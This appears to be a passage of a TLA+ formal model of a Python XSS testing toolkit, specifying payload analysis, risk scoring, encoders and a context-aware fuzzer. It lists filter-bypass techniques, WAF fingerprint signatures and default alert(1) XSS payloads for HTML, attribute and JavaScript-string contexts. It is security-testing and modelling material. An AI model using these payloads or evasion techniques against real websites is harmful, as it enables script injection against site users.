---- MODULE Spec2Model ----
(***************************************************************************)
(* A model of the XSS toolkit:                                             *)
(*   core/payload_analyzer.py       PayloadAnalyzer                        *)
(*   fuzzing/context_fuzzer.py      ContextAwareFuzzer                     *)
(*   polyglot/advanced_engine.py    AdvancedPolyglotEngine                 *)
(*   csp/bypass_analyzer.py         CSPBypassAnalyzer                      *)
(*   payloads/payload_library.py    PayloadLibrary                         *)
(*   scanners/reflection_scanner.py ReflectionScanner                      *)
(*                                                                         *)
(* A Python str is a sequence of one-character strings, so that `in`,      *)
(* lower(), replace() and the regular expressions of the source are        *)
(* computed character by character.  Floating-point scores are exact       *)
(* rationals scaled by Scale (confidence 0.5 is Scale \div 2).             *)
(***************************************************************************)
EXTENDS Integers, Sequences, FiniteSets, Bags, TLC

(***************************************************************************)
(* Python strings                                                          *)
(***************************************************************************)
Chars(s) == [i \in 1..Len(s) |-> SubSeq(s, i, i)]

\* Characters a TLA+ string literal cannot spell; each is ONE element of a str.
VT == "VT"
NUL == "NUL"
BACKTICK == "BACKTICK"
\* A lone surrogate code point (U+D800): a legal element of a Python str that
\* no UTF-8 encoder accepts.
SURROGATE == "U+D800"

Range(s) == {s[i] : i \in DOMAIN s}

UpperAlpha == Chars("ABCDEFGHIJKLMNOPQRSTUVWXYZ")
LowerAlpha == Chars("abcdefghijklmnopqrstuvwxyz")
LowerOf == [c \in Range(UpperAlpha) |-> LowerAlpha[CHOOSE i \in DOMAIN UpperAlpha : UpperAlpha[i] = c]]
UpperOf == [c \in Range(LowerAlpha) |-> UpperAlpha[CHOOSE i \in DOMAIN LowerAlpha : LowerAlpha[i] = c]]
AlphaChars == Range(UpperAlpha) \cup Range(LowerAlpha)
DigitChars == Range(Chars("0123456789"))
HexChars == DigitChars \cup Range(Chars("abcdefABCDEF"))
\* \w and \s of Python's re on the characters of the model
WordChars == AlphaChars \cup DigitChars \cup {"_"}
SpaceChars == {" ", "\t", "\n", "\r", "\f", VT}

lower_char(c) == IF c \in DOMAIN LowerOf THEN LowerOf[c] ELSE c
upper_char(c) == IF c \in DOMAIN UpperOf THEN UpperOf[c] ELSE c
\* str.lower()
lower(s) == [i \in 1..Len(s) |-> lower_char(s[i])]

Min(a, b) == IF a <= b THEN a ELSE b
Max(a, b) == IF a >= b THEN a ELSE b
ClampFloorOnly(lo, score, hi) == Max(lo, score)
\* min(hi, max(lo, score))
Clamp(lo, score, hi) == Min(hi, Max(lo, score))

\* s[i:i+len(n)] == n
HasAt(s, n, i) == /\ i >= 1
                  /\ i + Len(n) - 1 <= Len(s)
                  /\ \A j \in 1..Len(n) : s[i + j - 1] = n[j]
\* n in s
Contains(s, n) ==
  \E i \in 1..(Len(s) - Len(n) + 1) : \A j \in 1..Len(n) : s[i + j - 1] = n[j]
\* any(n in s for n in ns)
ContainsAny(s, ns) == \E k \in DOMAIN ns : Contains(s, ns[k])
\* s.count(c) for a one-character c
Count(s, c) == Cardinality({i \in DOMAIN s : s[i] = c})

\* ''.join(ss), halving the list so that long strings stay shallow
RECURSIVE FlattenRange(_, _, _)
FlattenRange(ss, lo, hi) ==
  IF lo > hi THEN <<>>
  ELSE IF lo = hi THEN ss[lo]
  ELSE FlattenRange(ss, lo, (lo + hi) \div 2) \o FlattenRange(ss, ((lo + hi) \div 2) + 1, hi)
Flatten(ss) == FlattenRange(ss, 1, Len(ss))

\* str.replace(old, new), and re.sub of a literal under re.IGNORECASE: the
\* occurrences of old are looked up in m (s itself, or s.lower()), left to
\* right; an occurrence is replaced unless an earlier replaced one overlaps it.
RECURSIVE ReplacedAt(_, _, _)
ReplacedAt(m, old, i) ==
  /\ HasAt(m, old, i)
  /\ ~ \E j \in Max(1, i - Len(old) + 1)..(i - 1) : ReplacedAt(m, old, j)
ReplaceIn(s, m, old, new) ==
  LET starts == {i \in DOMAIN s : ReplacedAt(m, old, i)}
  IN Flatten([i \in DOMAIN s |->
                IF i \in starts THEN new
                ELSE IF \E j \in Max(1, i - Len(old) + 1)..(i - 1) : j \in starts THEN <<>>
                ELSE <<s[i]>>])
Replace(s, old, new) == ReplaceIn(s, s, old, new)

\* sorted(s, key=..., reverse=True) with the keys given as integers: stable
SortedDesc(s, key) ==
  LET placed(rank) == [k \in DOMAIN s |-> s[CHOOSE i \in DOMAIN s : rank[i] = k]]
      ranked(keys) ==
        placed(SubSeq([i \in DOMAIN s |->
                         Cardinality({j \in DOMAIN s :
                                        keys[j] > keys[i] \/ (keys[j] = keys[i] /\ j < i)})
                           + 1],
                      1, Len(s)))
  IN ranked(SubSeq(key, 1, Len(s)))

RECURSIVE SumSeq(_)
SumSeq(ns) == IF ns = <<>> THEN 0 ELSE Head(ns) + SumSeq(Tail(ns))
\* Python's seq[:n]
Prefix(s, n) == IF n >= 0 THEN SubSeq(s, 1, Min(n, Len(s)))
                ELSE SubSeq(s, 1, Max(0, Len(s) + n))
\* ord(c) of the characters of the model
AsciiPrintable == Chars(" !\"#$%&'()*+,-./0123456789:;<=>?@ABCDEFGHIJKLMNOPQRSTUVWXYZ[\\]^_")
                  \o <<BACKTICK>> \o Chars("abcdefghijklmnopqrstuvwxyz{|}~")
Ord(c) == CASE c = NUL -> 0
            [] c = "\t" -> 9
            [] c = "\n" -> 10
            [] c = VT -> 11
            [] c = "\f" -> 12
            [] c = "\r" -> 13
            [] c = SURROGATE -> 55296
            [] OTHER -> 31 + (CHOOSE i \in DOMAIN AsciiPrintable : AsciiPrintable[i] = c)
HexUpper == Chars("0123456789ABCDEF")
HexLower == Chars("0123456789abcdef")
\* f"{n:02X}" and f"{n:02x}" for n < 256
Hex2(n, digits) == <<digits[(n \div 16) + 1], digits[(n % 16) + 1]>>
\* str(n) for n < 1000
DecDigits == Chars("0123456789")
Decimal(n) == IF n < 10 THEN <<DecDigits[n + 1]>>
              ELSE IF n < 100 THEN <<DecDigits[(n \div 10) + 1], DecDigits[(n % 10) + 1]>>
              ELSE <<DecDigits[(n \div 100) + 1], DecDigits[((n \div 10) % 10) + 1], DecDigits[(n % 10) + 1]>>

\* urllib.parse.quote(s, safe): unreserved characters and those of `safe` are
\* kept, every other character becomes %XX of its UTF-8 byte (ASCII here).
\* A lone surrogate has no UTF-8 encoding: quote raises UnicodeEncodeError.
QuoteUnreserved == AlphaChars \cup DigitChars \cup {"_", ".", "-", "~"}
QuoteRaises(s) == SURROGATE \in Range(s)
quote(s, safe) ==
  Flatten([i \in 1..Len(s) |->
             IF s[i] \in QuoteUnreserved \cup safe THEN <<s[i]>>
             ELSE <<"%">> \o Hex2(Ord(s[i]), HexUpper)])
\* html.escape(s): & first, then < > " '
html_escape(s) ==
  Flatten([i \in 1..Len(s) |->
             CASE s[i] = "&" -> Chars("&amp;")
               [] s[i] = "<" -> Chars("&lt;")
               [] s[i] = ">" -> Chars("&gt;")
               [] s[i] = "\"" -> Chars("&quot;")
               [] s[i] = "'" -> Chars("&#x27;")
               [] OTHER -> <<s[i]>>])

(***************************************************************************)
(* core/payload_analyzer.py: PayloadAnalyzer                               *)
(***************************************************************************)
Scale == 6 * 100

script_tags ==
  << Chars("script"), Chars("img"), Chars("svg"), Chars("iframe"), Chars("object"),
     Chars("embed"), Chars("video"), Chars("audio"), Chars("source"), Chars("track"),
     Chars("input"), Chars("body"), Chars("html"), Chars("meta"), Chars("link"),
     Chars("style"), Chars("form"), Chars("details"), Chars("math"), Chars("template"),
     Chars("canvas"), Chars("marquee") >>

event_handlers ==
  << Chars("onload"), Chars("onerror"), Chars("onclick"), Chars("onmouseover"),
     Chars("onfocus"), Chars("onblur"), Chars("onsubmit"), Chars("onchange"),
     Chars("onkeyup"), Chars("onkeydown"), Chars("onmousedown"), Chars("onmouseup"),
     Chars("ondblclick"), Chars("oncontextmenu"), Chars("onwheel"), Chars("ondrag"),
     Chars("ondrop"), Chars("onanimationend"), Chars("ontransitionend"),
     Chars("ontoggle"), Chars("onplay"), Chars("onpause"), Chars("onended"),
     Chars("oncanplay"), Chars("onloadstart"), Chars("onprogress"), Chars("onseeking"),
     Chars("onseeked") >>

\* the keys of bypass_patterns, in dictionary order
bypass_patterns ==
  << "case_variation", "encoded_chars", "unicode_encoding", "mixed_quotes",
     "comment_breaking", "whitespace_abuse", "protocol_confusion",
     "attribute_breaking", "tag_breaking", "double_encoding", "null_byte",
     "newline_injection", "filter_evasion", "obfuscation", "template_literals",
     "bracket_notation" >>

dangerous_js ==
  << Chars("eval"), Chars("Function"), Chars("setTimeout"), Chars("setInterval"),
     Chars("execScript"), Chars("document.write"), Chars("document.writeln"),
     Chars("innerHTML"), Chars("outerHTML"), Chars("insertAdjacentHTML"),
     Chars("location.href"), Chars("location.assign"), Chars("location.replace"),
     Chars("window.open"), Chars("execCommand") >>

html5_vectors ==
  << [tag |-> Chars("svg"), events |-> <<Chars("onload"), Chars("onerror"), Chars("onclick")>>],
     [tag |-> Chars("details"), events |-> <<Chars("ontoggle")>>],
     [tag |-> Chars("video"), events |-> <<Chars("onplay"), Chars("onended"), Chars("onerror")>>],
     [tag |-> Chars("audio"), events |-> <<Chars("onplay"), Chars("onended"), Chars("onerror")>>],
     [tag |-> Chars("canvas"), events |-> <<Chars("onclick"), Chars("onmouseover")>>],
     [tag |-> Chars("template"), events |-> <<Chars("innerHTML content")>>],
     [tag |-> Chars("math"), events |-> <<Chars("href attributes")>>] >>

AllIn(s, i, j, S) == \A k \in i..j : s[k] \in S
QuoteChars == {"\"", "'"}

\* re.search(r'\w+\s*=', p): a word character, optional whitespace, then '='
ReWordEquals(p) ==
  \E k \in DOMAIN p :
     /\ p[k] = "="
     /\ \E i \in 1..(k - 1) : p[i] \in WordChars /\ AllIn(p, i + 1, k - 1, SpaceChars)

\* `needle`, optional whitespace, then '('     (eval\s*\( and atob\s*\()
ReCallOf(lp, needle) ==
  \E i \in DOMAIN lp :
     /\ HasAt(lp, needle, i)
     /\ \E k \in (i + Len(needle))..Len(lp) :
           lp[k] = "(" /\ AllIn(lp, i + Len(needle), k - 1, SpaceChars)

\* re.search(bypass_patterns[technique], p, re.IGNORECASE | re.DOTALL);
\* lp is p.lower()
PatternMatches(technique, p, lp) ==
  CASE technique = "case_variation" ->
         Contains(lp, Chars("script")) \/ Contains(lp, Chars("onload"))
    [] technique = "encoded_chars" ->
         \E i \in DOMAIN p :
            \/ /\ HasAt(p, Chars("&#"), i)
               /\ \E j \in (i + 3)..Len(p) : p[j] = ";" /\ AllIn(p, i + 2, j - 1, DigitChars)
            \/ /\ HasAt(lp, Chars("&#x"), i)
               /\ \E j \in (i + 4)..Len(p) : p[j] = ";" /\ AllIn(p, i + 3, j - 1, HexChars)
            \/ /\ p[i] = "%"
               /\ i + 2 <= Len(p)
               /\ AllIn(p, i + 1, i + 2, HexChars)
    [] technique = "unicode_encoding" ->
         \E i \in DOMAIN p :
            \/ HasAt(lp, Chars("\\u"), i) /\ i + 5 <= Len(p) /\ AllIn(p, i + 2, i + 5, HexChars)
            \/ HasAt(lp, Chars("\\x"), i) /\ i + 3 <= Len(p) /\ AllIn(p, i + 2, i + 3, HexChars)
    [] technique = "mixed_quotes" ->
         Cardinality({i \in DOMAIN p : p[i] \in QuoteChars}) >= 2
    [] technique = "comment_breaking" ->
         \/ \E i \in DOMAIN p : HasAt(p, Chars("/*"), i)
               /\ \E j \in (i + 2)..Len(p) : HasAt(p, Chars("*/"), j)
         \/ \E i \in DOMAIN p : HasAt(p, Chars("<!--"), i)
               /\ \E j \in (i + 4)..Len(p) : HasAt(p, Chars("-->"), j)
    [] technique = "whitespace_abuse" ->
         \E i \in DOMAIN p : p[i] \in SpaceChars
    [] technique = "protocol_confusion" ->
         ContainsAny(lp, <<Chars("javascript:"), Chars("data:"), Chars("vbscript:"), Chars("about:")>>)
    [] technique = "attribute_breaking" ->
         \E k \in DOMAIN p :
            /\ p[k] = "="
            /\ \E i \in 1..(k - 1) : p[i] \in WordChars /\ AllIn(p, i + 1, k - 1, SpaceChars)
            /\ \E m \in (k + 1)..Len(p) :
                  p[m] \notin SpaceChars \cup {">"} /\ AllIn(p, k + 1, m - 1, SpaceChars)
    [] technique = "tag_breaking" ->
         \E i \in DOMAIN p :
            /\ HasAt(p, Chars("</"), i)
            /\ \E j \in (i + 3)..Len(p) :
                  /\ p[j] = ">"
                  /\ AllIn(p, i + 2, j - 1, WordChars)
                  /\ \E k \in (j + 1)..(Len(p) - 1) : p[k] = "<" /\ p[k + 1] \in WordChars
    [] technique = "double_encoding" ->
         \E i \in DOMAIN p :
            HasAt(p, Chars("%25"), i) /\ i + 4 <= Len(p) /\ AllIn(p, i + 3, i + 4, HexChars)
    [] technique = "null_byte" ->
         Contains(p, Chars("%00")) \/ NUL \in Range(p)
    [] technique = "newline_injection" ->
         \/ \E i \in DOMAIN p : HasAt(p, Chars("%0"), i) /\ i + 2 <= Len(p)
                                   /\ lp[i + 2] \in {"a", "d"}
         \/ "\n" \in Range(p)
         \/ "\r" \in Range(p)
    [] technique = "filter_evasion" ->
         ContainsAny(lp, <<Chars("script"), Chars("alert"), Chars("prompt"), Chars("confirm")>>)
    [] technique = "obfuscation" ->
         \/ Contains(lp, Chars("string.fromcharcode"))
         \/ ReCallOf(lp, Chars("eval"))
         \/ ReCallOf(lp, Chars("atob"))
    [] technique = "template_literals" ->
         Count(p, BACKTICK) >= 2
    [] technique = "bracket_notation" ->
         \E i \in DOMAIN p :
            /\ p[i] = "["
            /\ i + 1 <= Len(p)
            /\ p[i + 1] \in QuoteChars
            /\ \E j \in (i + 3)..(Len(p) - 1) :
                  /\ p[j] \in QuoteChars
                  /\ p[j + 1] = "]"
                  /\ AllIn(p, i + 2, j - 1, WordChars)


\* _detect_contexts: the context tags, in the order of the checks
DetectedContexts(payload) ==
  LET payload_lower == lower(payload)
  IN    (IF \E k \in DOMAIN script_tags : Contains(payload_lower, <<"<">> \o script_tags[k])
           THEN <<"HTML_CONTENT">> ELSE <<>>)
        \o (IF ContainsAny(payload_lower, event_handlers)
              THEN <<"ATTRIBUTE_VALUE">> ELSE <<>>)
        \o (IF \E i \in DOMAIN payload : payload[i] \in {"\"", "'", "\\", "\n", "\r"}
              THEN <<"JAVASCRIPT_STRING">> ELSE <<>>)
        \o (IF ReWordEquals(payload) THEN <<"JAVASCRIPT_VARIABLE">> ELSE <<>>)
        \o (IF ContainsAny(payload_lower, <<Chars("expression("), Chars("url("), Chars("import"), Chars("@")>>)
              THEN <<"CSS_VALUE">> ELSE <<>>)
        \o (IF ContainsAny(payload_lower, <<Chars("javascript:"), Chars("data:"), Chars("vbscript:"), Chars("about:")>>)
              THEN <<"URL_PARAMETER">> ELSE <<>>)
        \o (IF ContainsAny(payload, <<Chars("-->"), Chars("<!--"), Chars("*/")>>)
              THEN <<"HTML_COMMENT">> ELSE <<>>)

DetectContextsUnknownLast(payload) == DetectedContexts(payload) \o <<"UNKNOWN">>
\* _detect_contexts: return contexts if contexts else [Context.UNKNOWN]
DetectContexts(payload) ==
  LET returned(contexts) == IF contexts = <<>> THEN <<"UNKNOWN">> ELSE contexts
  IN returned(DetectedContexts(payload))

\* _determine_xss_types
DetermineXssTypes(payload) ==
  LET payload_lower == lower(payload)
      found ==
        (IF \/ Contains(payload_lower, Chars("<script>"))
            \/ ContainsAny(payload_lower, event_handlers)
            \/ Contains(payload_lower, Chars("javascript:"))
           THEN <<"REFLECTED">> ELSE <<>>)
        \o (IF /\ Len(payload) < 100
               /\ ~ \E i \in DOMAIN payload : payload[i] \in {"<", ">", "\"", "'"}
               /\ ContainsAny(payload_lower, <<Chars("alert"), Chars("eval"), Chars("script")>>)
              THEN <<"STORED">> ELSE <<>>)
        \o (IF ContainsAny(payload_lower,
                 <<Chars("document."), Chars("window."), Chars("location."), Chars("eval("),
                   Chars("innerhtml"), Chars("outerhtml"), Chars("document.write"),
                   Chars("location.href")>>)
              THEN <<"DOM_BASED">> ELSE <<>>)
        \o (IF \/ Contains(payload_lower, Chars("<img")) /\ Contains(payload_lower, Chars("onerror="))
               \/ Contains(payload_lower, Chars("svg")) /\ Contains(payload_lower, Chars("onload="))
               \/ Contains(payload_lower, Chars("javascript:"))
              THEN <<"UNIVERSAL">> ELSE <<>>)
  IN IF found = <<>> THEN <<"REFLECTED">> ELSE found

\* _identify_bypass_techniques: the matching patterns in table order, then the
\* two heuristic checks.  Every pattern of the table compiles, so the
\* `except re.error` branch is never taken.
IdentifyBypassTechniques(payload) ==
  LET lp == lower(payload)
      letters == {lower_char(payload[i]) : i \in {j \in DOMAIN payload : payload[j] \in AlphaChars}}
  IN SelectSeq(bypass_patterns, LAMBDA t : PatternMatches(t, payload, lp))
     \o (IF Cardinality(letters) > Len(payload) \div 3 THEN <<"mixed_case_evasion">> ELSE <<>>)
     \o (IF Count(payload, "\"") # Count(payload, "'") THEN <<"quote_imbalance">> ELSE <<>>)

\* the loop of _identify_bypass_techniques left at the first pattern that raises
IdentifyBypassTechniquesAbort(payload, malformed) ==
  LET lp == lower(payload)
      letters == {lower_char(payload[i]) : i \in {j \in DOMAIN payload : payload[j] \in AlphaChars}}
      reached(k) == \A j \in 1..k : bypass_patterns[j] \notin malformed
  IN Flatten([k \in DOMAIN bypass_patterns |->
                IF reached(k) /\ PatternMatches(bypass_patterns[k], payload, lp)
                  THEN <<bypass_patterns[k]>> ELSE <<>>])
     \o (IF Cardinality(letters) > Len(payload) \div 3 THEN <<"mixed_case_evasion">> ELSE <<>>)
     \o (IF Count(payload, "\"") # Count(payload, "'") THEN <<"quote_imbalance">> ELSE <<>>)

\* _identify_bypass_techniques on an instance whose bypass_patterns holds a
\* malformed regular expression under the keys in `malformed`: re.search
\* raises re.error for these, the except branch continues with the next key
IdentifyBypassTechniquesTable(payload, malformed) ==
  LET lp == lower(payload)
      letters == {lower_char(payload[i]) : i \in {j \in DOMAIN payload : payload[j] \in AlphaChars}}
  IN Flatten([k \in DOMAIN bypass_patterns |->
                IF bypass_patterns[k] \in malformed THEN <<>>
                ELSE IF PatternMatches(bypass_patterns[k], payload, lp)
                  THEN <<bypass_patterns[k]>> ELSE <<>>])
     \o (IF Cardinality(letters) > Len(payload) \div 3 THEN <<"mixed_case_evasion">> ELSE <<>>)
     \o (IF Count(payload, "\"") # Count(payload, "'") THEN <<"quote_imbalance">> ELSE <<>>)

high_risk_contexts == {"HTML_CONTENT", "JAVASCRIPT_STRING", "ATTRIBUTE_VALUE", "URL_PARAMETER"}

\* len([c for c in contexts if c in high_risk_contexts])
ContextScore(contexts) ==
  Cardinality({i \in DOMAIN contexts : contexts[i] \in high_risk_contexts})

\* the html5_vectors entries whose tag and one of whose events are in payload_lower
Html5Matches(payload_lower) ==
  {k \in DOMAIN html5_vectors :
     /\ Contains(payload_lower, html5_vectors[k].tag)
     /\ ContainsAny(payload_lower, html5_vectors[k].events)}

\* _calculate_risk_and_confidence: the local risk_score at the risk level mapping
RiskScore(payload, contexts, bypass_techniques) ==
  LET payload_lower == lower(payload)
  IN (IF Len(payload) > 200 THEN 2 ELSE IF Len(payload) > 100 THEN 1 ELSE 0)
     + ContextScore(contexts) * 2
     + Len(bypass_techniques)
     + (IF Contains(payload_lower, Chars("<script>")) THEN 4 ELSE 0)
     + (IF ContainsAny(payload_lower, dangerous_js) THEN 3 ELSE 0)
     + 2 * Cardinality(Html5Matches(payload_lower))

\* RiskLevel with the thresholds exclusive
RiskLevelExclusive(risk_score) ==
  IF risk_score > 8 THEN "critical"
  ELSE IF risk_score > 6 THEN "high"
  ELSE IF risk_score > 3 THEN "medium"
  ELSE "low"

\* _calculate_risk_and_confidence: the risk level mapping
RiskLevel(risk_score) ==
  IF risk_score >= 8 THEN "critical"
  ELSE IF risk_score >= 6 THEN "high"
  ELSE IF risk_score >= 3 THEN "medium"
  ELSE "low"

\* _calculate_risk_and_confidence: the local confidence before capping
RawConfidence(payload, contexts, bypass_techniques) ==
  LET payload_lower == lower(payload)
  IN Scale \div 2
     + (IF Len(payload) > 200 THEN Scale \div 10 ELSE 0)
     + ContextScore(contexts) * (Scale \div 10)
     + Len(bypass_techniques) * (Scale \div 20)
     + (IF Contains(payload_lower, Chars("<script>")) THEN (3 * Scale) \div 10 ELSE 0)
     + (IF ContainsAny(payload_lower, dangerous_js) THEN Scale \div 5 ELSE 0)
     + Cardinality(Html5Matches(payload_lower)) * ((3 * Scale) \div 20)

\* confidence = min(1.0, max(0.1, confidence))
CapConfidence(confidence) == Clamp(Scale \div 10, confidence, Scale)

\* _generate_explanation, as the pieces the text is put together from
GenerateExplanation(payload, contexts, xss_types, bypass_techniques) ==
  LET payload_lower == lower(payload)
  IN [intro |-> "This payload attempts XSS exploitation through: ",
      contexts |-> IF contexts # <<"UNKNOWN">> THEN contexts ELSE <<>>,
      techniques |-> bypass_techniques,
      xss_types |-> xss_types,
      vector |-> IF Contains(payload_lower, Chars("<script>"))
                   THEN " Uses direct script tag injection."
                 ELSE IF ContainsAny(payload_lower, <<Chars("onerror"), Chars("onload"), Chars("onclick")>>)
                   THEN " Uses event handler injection."
                 ELSE IF Contains(payload_lower, Chars("javascript:"))
                   THEN " Uses JavaScript protocol injection."
                 ELSE ""]

\* _generate_proof_of_concept: one line per context that has a branch.  The
\* URL line calls urllib.parse.quote(payload), which raises on a lone surrogate.
PocContexts == {"HTML_CONTENT", "ATTRIBUTE_VALUE", "JAVASCRIPT_STRING", "URL_PARAMETER",
                "CSS_VALUE", "HTML_COMMENT"}
GenerateProofOfConcept(payload, contexts) ==
  IF "URL_PARAMETER" \in Range(contexts) /\ QuoteRaises(payload)
    THEN [raised |-> TRUE,
          error |-> "'utf-8' codec can't encode character: surrogates not allowed"]
    ELSE [raised |-> FALSE,
          value |-> [i \in DOMAIN SelectSeq(contexts, LAMBDA c : c \in PocContexts) |->
                       LET c == SelectSeq(contexts, LAMBDA x : x \in PocContexts)[i]
                       IN [context |-> c,
                           text |-> IF c = "URL_PARAMETER" THEN quote(payload, {"/"})
                                    ELSE payload]]]

\* _collect_metadata (the keys computed from the payload and the contexts)
CollectMetadata(payload, contexts) ==
  LET payload_lower == lower(payload)
  IN [original_length |-> Len(payload),
      contains_script_tag |-> Contains(payload_lower, Chars("<script")),
      contains_event_handler |-> ContainsAny(payload_lower, event_handlers),
      contains_javascript_protocol |-> Contains(payload_lower, Chars("javascript:")),
      context_count |-> Len(contexts),
      payload_family |->
        IF Contains(payload_lower, Chars("alert(")) THEN "alert_based"
        ELSE IF Contains(payload_lower, Chars("eval(")) THEN "eval_based"
        ELSE IF Contains(payload_lower, Chars("document.write")) THEN "document_write"
        ELSE IF ContainsAny(payload_lower, <<Chars("<img"), Chars("<svg"), Chars("<iframe")>>)
          THEN "tag_based"
        ELSE "unknown"]

\* The body of the try block of analyze_payload: either the analysis it builds
\* or the exception one of its steps raised.  _normalize_payload catches its
\* own exceptions and feeds only the metadata.
TryAnalyze(payload) ==
  LET built(contexts, xss_types, bypass_techniques, risk_score, poc) ==
        IF poc.raised
          THEN [raised |-> TRUE, error |-> poc.error, risk_score |-> risk_score]
          ELSE [raised |-> FALSE,
                risk_score |-> risk_score,
                analysis |->
                  [payload |-> payload,
                   contexts |-> contexts,
                   xss_types |-> xss_types,
                   bypass_techniques |-> bypass_techniques,
                   risk_level |-> RiskLevel(risk_score),
                   explanation |-> GenerateExplanation(payload, contexts, xss_types,
                                                       bypass_techniques),
                   proof_of_concept |-> poc.value,
                   confidence_score |->
                     CapConfidence(RawConfidence(payload, contexts, bypass_techniques)),
                   metadata |-> CollectMetadata(payload, contexts)]]
      scored(contexts, xss_types, bypass_techniques) ==
        built(contexts, xss_types, bypass_techniques,
              RiskScore(payload, contexts, bypass_techniques),
              GenerateProofOfConcept(payload, contexts))
  IN scored(DetectContexts(payload), DetermineXssTypes(payload),
            IdentifyBypassTechniques(payload))

\* the PayloadAnalysis of the except branch
DegradedAnalysis(payload, error) ==
  [payload |-> payload,
   contexts |-> <<"UNKNOWN">>,
   xss_types |-> <<"REFLECTED">>,
   bypass_techniques |-> <<>>,
   risk_level |-> "low",
   explanation |-> [intro |-> "Analysis failed: ", error |-> error],
   proof_of_concept |-> "Unable to generate PoC",
   confidence_score |-> 0,
   metadata |-> [error |-> error]]

\* analyze_payload without its try/except: an exception of a step propagates
AnalyzePayloadNoExcept(payload) ==
  LET outcome(r) ==
        IF r.raised
          THEN [outcome |-> "raised", analysis |-> [payload |-> payload],
                caught |-> "", risk_score |-> r.risk_score]
          ELSE [outcome |-> "returned", analysis |-> r.analysis,
                caught |-> "", risk_score |-> r.risk_score]
  IN outcome(TryAnalyze(payload))

\* analyze_payload: what the call does (returns or raises), the exception the
\* except branch caught and logged, and the risk_score local of the scorer
\* (computed before the proof of concept is generated)
AnalyzePayload(payload) ==
  LET outcome(r) ==
        IF r.raised
          THEN [outcome |-> "returned", analysis |-> DegradedAnalysis(payload, r.error),
                caught |-> r.error, risk_score |-> r.risk_score]
          ELSE [outcome |-> "returned", analysis |-> r.analysis,
                caught |-> "", risk_score |-> r.risk_score]
  IN outcome(TryAnalyze(payload))


(***************************************************************************)
(* fuzzing/context_fuzzer.py: ContextAwareFuzzer                           *)
(***************************************************************************)
\* InjectionContext members are named by their value, which is also the key
\* of successful_payloads.
JS_STRING_CONTEXTS == {"js_string_single", "js_string_double"}
HTML_CONTEXTS == {"html_tag_content", "html_attribute_value"}

\* self.context_breakers.get(context_type, [])
context_breakers(context_type) ==
  CASE context_type = "html_tag_content" -> <<Chars("<"), Chars(">"), Chars("</"), Chars("/>")>>
    [] context_type = "html_attribute_value" -> <<Chars("\""), Chars("'"), Chars(" "), Chars(">")>>
    [] context_type = "js_string_single" -> <<Chars("'"), Chars("\\"), Chars("\n")>>
    [] context_type = "js_string_double" -> <<Chars("\""), Chars("\\"), Chars("\n")>>
    [] context_type = "js_template" -> <<<<BACKTICK>>, Chars("${"), Chars("}")>>
    [] context_type = "css_property_value" -> <<Chars(";"), Chars("}"), Chars("/*"), Chars("*/")>>
    [] context_type = "url_query" -> <<Chars("&"), Chars("#"), Chars(" "), Chars("%00")>>
    [] context_type = "json_value" -> <<Chars("\""), Chars("\\"), Chars("\n"), Chars("}")>>
    [] OTHER -> <<>>

\* base64.b64encode over the UTF-8 bytes of an ASCII str
B64Alphabet == Chars("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/")
RECURSIVE b64encode_from(_, _)
b64encode_from(b, i) ==
  IF i > Len(b) THEN <<>>
  ELSE LET n == Len(b) - i + 1
           v == b[i] * 65536 + (IF n >= 2 THEN b[i + 1] * 256 ELSE 0)
                             + (IF n >= 3 THEN b[i + 2] ELSE 0)
       IN <<B64Alphabet[(v \div 262144) + 1], B64Alphabet[((v \div 4096) % 64) + 1]>>
          \o (IF n >= 2 THEN <<B64Alphabet[((v \div 64) % 64) + 1]>> ELSE <<"=">>)
          \o (IF n >= 3 THEN <<B64Alphabet[(v % 64) + 1]>> ELSE <<"=">>)
          \o b64encode_from(b, i + 3)
b64encode(s) == b64encode_from([i \in 1..Len(s) |-> Ord(s[i])], 1)
\* f"{n:04x}" for n < 65536
Hex4(n) == Hex2(n \div 256, HexLower) \o Hex2(n % 256, HexLower)

\* self.encoders
encoder_names == {"none", "html", "url", "double_url", "base64", "hex", "unicode",
                  "html_decimal", "html_hex"}
encoders(name, x) ==
  CASE name = "none" -> x
    [] name = "html" -> html_escape(x)
    [] name = "url" -> quote(x, {"/"})
    [] name = "double_url" -> quote(quote(x, {"/"}), {"/"})
    [] name = "base64" -> b64encode(x)
    [] name = "hex" -> Flatten([i \in 1..Len(x) |-> <<"%">> \o Hex2(Ord(x[i]), HexLower)])
    [] name = "unicode" -> Flatten([i \in 1..Len(x) |-> Chars("\\u") \o Hex4(Ord(x[i]))])
    [] name = "html_decimal" ->
         Flatten([i \in 1..Len(x) |-> Chars("&#") \o Decimal(Ord(x[i])) \o Chars(";")])
    [] name = "html_hex" ->
         Flatten([i \in 1..Len(x) |-> Chars("&#x") \o Hex2(Ord(x[i]), HexLower) \o Chars(";")])

\* self.waf_signatures of the fuzzer, in dict order
fuzzer_waf_signatures ==
  << [name |-> "ModSecurity", signatures |-> <<Chars("ModSecurity"), Chars("Mod_Security"), Chars("NOYB")>>],
     [name |-> "AWS WAF", signatures |-> <<Chars("AWS WAF"), Chars("AWSalb")>>],
     [name |-> "Cloudflare", signatures |-> <<Chars("cloudflare"), Chars("cf-ray")>>],
     [name |-> "Akamai", signatures |-> <<Chars("akamai"), Chars("akamai-ghost")>>],
     [name |-> "F5 BIG-IP", signatures |-> <<Chars("F5-"), Chars("BIG-IP"), Chars("x-waf-status")>>],
     [name |-> "Barracuda", signatures |-> <<Chars("barracuda"), Chars("barra")>>],
     [name |-> "Sucuri", signatures |-> <<Chars("sucuri"), Chars("x-sucuri-id")>>],
     [name |-> "Wordfence", signatures |-> <<Chars("wordfence"), Chars("wf-")>>] >>

\* _get_default_payloads
get_default_payloads(context_type) ==
  CASE context_type = "html_tag_content" ->
         << Chars("<script>alert(1)</script>"),
            Chars("<img src=x onerror=alert(1)>"),
            Chars("<svg onload=alert(1)>"),
            Chars("<iframe src=\"javascript:alert(1)\">") >>
    [] context_type = "html_attribute_value" ->
         << Chars("\" onmouseover=alert(1) \""),
            Chars("' onclick=alert(1) '"),
            Chars("\" autofocus onfocus=alert(1) \""),
            Chars("\"><script>alert(1)</script>") >>
    [] context_type = "js_string_single" ->
         << Chars("';alert(1);//"),
            Chars("\\';alert(1);//"),
            Chars("'+alert(1)+'"),
            Chars("'-alert(1)-'") >>
    [] context_type = "js_string_double" ->
         << Chars("\";alert(1);//"),
            Chars("\\\";alert(1);//"),
            Chars("\"+alert(1)+\""),
            Chars("\"-alert(1)-\"") >>
    [] context_type = "css_property_value" ->
         << Chars("expression(alert(1))"),
